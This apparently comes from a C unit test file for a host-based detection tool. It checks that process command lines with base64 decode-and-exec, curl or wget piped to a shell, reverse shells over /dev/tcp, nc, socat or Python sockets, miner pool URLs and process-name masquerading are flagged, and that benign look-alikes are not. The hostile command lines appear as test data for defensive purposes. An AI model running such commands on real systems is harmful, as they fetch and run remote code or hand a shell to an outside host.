/* SPDX-License-Identifier: MIT */
#include "heuristics/evidence.h"
#include "tests/unit/heuristics/assessed.h"

/* A row: what runs, what it says, and how strongly the key must answer. */
struct command_case {
    const char *exe, *command;
    double strength;
};

static void assert_cases(struct assessed *a, const char *key, const struct command_case *cases,
                         size_t count)
{
    for (size_t i = 0; i < count; i++)
        given_child(a, 10 + (int)i, 1, cases[i].exe, cases[i].command);
    assess(a);
    for (size_t i = 0; i < count; i++)
        assert_judges(a, 10 + (int)i, key, cases[i].strength, "");
}

#define ASSERT_CASES(a, key, cases) assert_cases(a, key, cases, sizeof cases / sizeof *cases)

static void obfuscated_cmdline_is_a_decoder_and_a_long_text(void **state)
{
    static const struct command_case cases[] = {
        {"/usr/bin/bash",       "bash|-c|echo ZWNobyBoYXJtbGVzcyBlbm91Z2g= \1 base64 -d",        1},
        {"/usr/bin/python3.11",
         "python3|-c|import base64; exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbQ=='))",     1},
        {"/usr/bin/bash",       "bash|-c|base64 -d < in > out",                                  0},
        {"/usr/bin/bash",       "bash|/srv/tools/base64-decode/a_long_name_of_a_script_file.sh", 0},
        {"/usr/bin/base64",     "base64|-d|ZWNobyBoYXJtbGVzcyBlbm91Z2g=",                        0},
        {"/usr/bin/bash",       "bash|-c|echo ZWNobyBoYXJtbGVzcyBlbm91Z2g=",                     0},
    };

    ASSERT_CASES(*state, "obfuscated_cmdline", cases);
}

static void code_exec_cmdline_is_a_call(void **state)
{
    static const struct command_case cases[] = {
        {"/usr/bin/perl",       "perl|-e|eval(<STDIN>)",             1},
        {"/usr/bin/python3.11", "python3|-c|exec(open(0).read())",   1},
        {"/usr/bin/bash",       "bash|-c|eval \"$PAYLOAD\"",         1},
        {"/usr/bin/git",        "git|--exec-path=/usr/lib/git-core", 0},
        {"/usr/bin/python3.11", "python3|evaluate.py|exec(",         0},
        {"/usr/bin/python3.11", "python3|-c|print(retrieval(1))",    0},
        {"/usr/bin/bash",       "bash|-c|evaluate; exec nginx",      0},
        {"/usr/bin/node",       "node|server.js|--eval-later",       0},
    };

    ASSERT_CASES(*state, "code_exec_cmdline", cases);
}

static void decode_exec_wants_both(void **state)
{
    static const struct command_case cases[] = {
        {"/usr/bin/bash",       "bash|-c|base64 -d x \1 sh",                  1},
        {"/usr/bin/bash",       "bash|-c|base64 -d x \1 sudo /bin/bash -s",   1},
        {"/usr/bin/bash",       "bash|-c|eval \"$(xxd -r p)\"",               1},
        {"/usr/bin/python3.11", "python3|-c|exec(base64.b64decode('YQ=='))",  1},
        {"/usr/bin/bash",       "bash|-c|base64 -d x > y",                    0},
        {"/usr/bin/bash",       "bash|-c|base64 -d x \1 sha256sum",           0},
        {"/usr/bin/bash",       "bash|-c|cat x \1 sh",                        0},
        {"/usr/bin/python3.11", "python3|-c|print(base64.b64decode('YQ=='))", 0},
        {"/usr/bin/grep",       "grep|-c|base64 -d x \1 sh",                  0},
    };

    ASSERT_CASES(*state, "decode_exec", cases);
}

static void pipe_exec_is_a_download_that_runs(void **state)
{
    static const struct command_case cases[] = {
        {"/usr/bin/dash", "sh|-c|curl -fsSL https://x.example/i \1 sh",         1},
        {"/usr/bin/dash", "sh|-c|wget -qO- http://x.example/i \1 sudo bash -s", 1},
        {"/usr/bin/bash", "bash|-c|bash <(curl -s http://x.example/i)",         1},
        {"/usr/bin/bash", "bash|-c|eval \"$(wget -qO- http://x.example/i)\"",   1},
        {"/usr/bin/dash", "sh|-c|curl -s http://x.example/i \1 jq .",           0},
        {"/usr/bin/dash", "sh|-c|curl -o i http://x.example/i.sh",              0},
        {"/usr/bin/dash", "sh|/srv/curl.sh|\1 sh",                              0},
        {"/usr/bin/bash", "bash|-c|version=$(curl -s http://x.example/v)",      0},
        {"/usr/bin/curl", "curl|-fsSL|https://x.example/i",                     0},
    };

    ASSERT_CASES(*state, "pipe_exec", cases);
}

static void revshell_cmdline_wires_a_shell(void **state)
{
    static const struct command_case cases[] = {
        {"/usr/bin/bash",       "bash|-c|bash -i >& /dev/tcp/10.0.0.9/443 0>&1",            1},
        {"/usr/bin/dash",       "sh|-c|mkfifo f; cat f \1 sh -i \1 nc 10.0.0.9 443 >f",     1},
        {"/usr/bin/nc",         "nc|10.0.0.9|443|-e|/bin/sh",                               1},
        {"/usr/bin/ncat",       "ncat|-l|443|--sh-exec|bash -i",                            1},
        {"/usr/bin/socat",      "socat|TCP:10.0.0.9:443|EXEC:'/bin/bash -li',pty",          1},
        {"/usr/bin/python3.11",
         "python3|-c|import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)",           1},
        {"/usr/bin/bash",       "bash|-c|until exec 3<>/dev/tcp/db/5432; do sleep 1; done", 0},
        {"/usr/bin/nc",         "nc|-zv|10.0.0.9|443",                                      0},
        {"/usr/bin/nc",         "nc|-l|443|-e|/usr/bin/cat",                                0},
        {"/usr/bin/socat",      "socat|TCP-LISTEN:80|EXEC:/usr/bin/date",                   0},
        {"/usr/bin/python3.11", "python3|-c|import socket; socket.create_connection(a)",    0},
        {"/usr/bin/dash",       "sh|-c|mkfifo /run/sync_fifo",                              0},
        {"/usr/bin/grep",       "grep|-c|nc -e /bin/sh",                                    0},
    };

    ASSERT_CASES(*state, "revshell_cmdline", cases);
}

static void miner_cmdline_spares_who_reads_about_it(void **state)
{
    static const struct command_case cases[] = {
        {"/opt/x/y",          "y|-o|stratum+tcp://pool.example:3333|-u|w", 1},
        {"/opt/x/y",          "y|--url=stratum+ssl://pool.example:443",    1},
        {"/opt/x/y",          "y|--donate-level=0",                        1},
        {"/tmp/grep",         "grep|-r|stratum+tcp://x",                   1},
        {"/usr/bin/grep",     "grep|-r|stratum+tcp://|/var/log",           0},
        {"/usr/sbin/chronyd", "chronyd|stratum|10",                        0},
        {"/opt/x/y",          "y|--donate|level",                          0},
    };

    ASSERT_CASES(*state, "miner_cmdline", cases);
}

static void name_argv_mismatch_spares_titles_links_and_scripts(void **state)
{
    static const struct command_case cases[] = {
        {"/opt/x/miner",                        "/usr/sbin/sshd|-D",            1},
        {"/opt/x/miner",                        "nginx: worker process",        1},
        {"/opt/x/xterm",                        "xt: two letters are no name",  1},
        {"/opt/x/ab",                           "abcdef: longer than the file", 1},
        {"/usr/sbin/nginx",                     "nginx: worker process",        0},
        {"/usr/sbin/php-fpm8.2",                "php-fpm: pool www",            0},
        {"/usr/bin/bash",                       "-bash",                        0},
        {"/usr/bin/dbus-daemon",                "@dbus-daemon|--system",        0},
        {"/usr/bin/dbus-daemon",                "@dbus-daemon: session",        0},
        {"/usr/sbin/cron",                      "/usr/sbin/CRON|-f",            0},
        {"/usr/bin/python3.11",                 "/usr/bin/fail2ban-server",     0},
        {"/usr/lib/postgresql/15/bin/postgres", "postgres: 15/main: archiver ", 0},
        {"/usr/sbin/sshd",                      "sshd: root@pts/0",             0},
        {"/opt/x/x",                            "",                             0},
    };

    ASSERT_CASES(*state, "name_argv_mismatch", cases);
}

static void kthread_masq_is_about_names_of_the_kernel(void **state)
{
    static const struct command_case cases[] = {
        {"/opt/x/y",            "[kworker/0:1]",     1},
        {"/tmp/kswapd0",        "/tmp/kswapd0",      1},
        {"/usr/bin/python3.11", "[celeryd: worker]", 0},
        {"/usr/bin/[",          "[|-f|x|]",          0},
        {"/usr/bin/grep",       "grep|kworker",      0},
    };

    ASSERT_CASES(*state, "kthread_masq", cases);
}

static void kthread_masq_knows_the_real_ones(void **state)
{
    struct assessed *a = *state;
    struct process *thread = given_process(&a->given, 10, 2, "");

    thread->comm = given_text(&a->given, "kworker/0:1");
    thread->flags = PROCESS_PF_KTHREAD;
    assess(a);
    assert_clean(a, 10);
}

static void name_argv_mismatch_believes_comm_for_a_link(void **state)
{
    struct assessed *a = *state;
    struct process *udev = given_process(&a->given, 10, 1, "/usr/bin/udevadm");
    struct process *init = given_process(&a->given, 1, 0, "/usr/lib/systemd/systemd");

    udev->comm = given_text(&a->given, "systemd-udevd");
    given_command(&a->given, udev, "/lib/systemd/systemd-udevd");
    given_command(&a->given, init, "/sbin/init");
    assess(a);
    assert_clean(a, 10);
    assert_clean(a, 1);
}

static void empty_cmdline_waits_for_the_second_sighting(void **state)
{
    struct assessed *a = *state;

    given_process(&a->given, 10, 1, "/opt/x/y")->cmdline = given_text(&a->given, "");
    given_child(a, 11, 1, "/opt/x/y", "|||");
    struct process *new = given_process(&a->given, 12, 1, "/opt/x/y");
    new->cmdline = given_text(&a->given, "");
    new->is_new = 1;
    struct process *zombie = given_process(&a->given, 13, 1, "/opt/x/y");
    zombie->cmdline = given_text(&a->given, "");
    zombie->state = 'Z';
    struct process *exiting = given_process(&a->given, 14, 1, "/opt/x/y");
    exiting->cmdline = given_text(&a->given, "");
    exiting->flags = PROCESS_PF_EXITING;
    given_process(&a->given, 15, 1, ""); /* no_exe's */
    assess(a);
    assert_finds(a, 10, "empty_cmdline", 1, "it runs /opt/x/y");
    assert_finds(a, 11, "empty_cmdline", 1, "4 NUL bytes");
    assert_finds(a, 12, "empty_cmdline", 0, "seen once");
    for (int pid = 13; pid <= 15; pid++)
        assert_innocent(a, pid, "empty_cmdline");
}

static void a_command_line_is_told_as_far_as_there_is_room(void **state)
{
    struct assessed *a = *state;
    char command[EVIDENCE_TEXT_MAX + 64] = "y|--donate-level=0|";
    const char *shown = "--donate-level in: y --donate-level=0 ";

    given_child(a, 10, 1, "/opt/x/y", "y|--donate-level=0");
    memset(command + strlen(command), 'x', sizeof command - 1 - strlen(command));
    given_child(a, 11, 1, "/opt/x/y", command);
    assess(a);
    assert_string_equal(finding_of(a, 10, "miner_cmdline")->evidence,
                        "--donate-level in: y --donate-level=0");
    const char *clipped = finding_of(a, 11, "miner_cmdline")->evidence;
    assert_memory_equal(clipped, shown, strlen(shown));
    assert_int_equal(strlen(clipped),
                     strlen("--donate-level in: ") + EVIDENCE_TEXT_MAX + strlen(" ..."));
    assert_string_equal(clipped + strlen(clipped) - strlen("x ..."), "x ...");
}

static void short_cmdline_spares_programs_of_the_system(void **state)
{
    static const struct command_case cases[] = {
        {"/home/u/x",         "x",    1},
        {"/home/u/xy",        "xy",   1},
        {"/home/u/xyz",       "xyz",  0},
        {"/usr/bin/w.procps", "w",    0},
        {"/usr/bin/dash",     "sh",   0},
        {"/home/u/x",         "x|-v", 0},
        {"/home/u/x",         "",     0},
    };

    ASSERT_CASES(*state, "short_cmdline", cases);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        CASE(obfuscated_cmdline_is_a_decoder_and_a_long_text),
        CASE(code_exec_cmdline_is_a_call),
        CASE(decode_exec_wants_both),
        CASE(pipe_exec_is_a_download_that_runs),
        CASE(revshell_cmdline_wires_a_shell),
        CASE(miner_cmdline_spares_who_reads_about_it),
        CASE(name_argv_mismatch_spares_titles_links_and_scripts),
        CASE(kthread_masq_is_about_names_of_the_kernel),
        CASE(kthread_masq_knows_the_real_ones),
        CASE(name_argv_mismatch_believes_comm_for_a_link),
        CASE(empty_cmdline_waits_for_the_second_sighting),
        CASE(a_command_line_is_told_as_far_as_there_is_room),
        CASE(short_cmdline_spares_programs_of_the_system),
    };

    return cmocka_run_group_tests_name("command", tests, NULL, NULL);
}
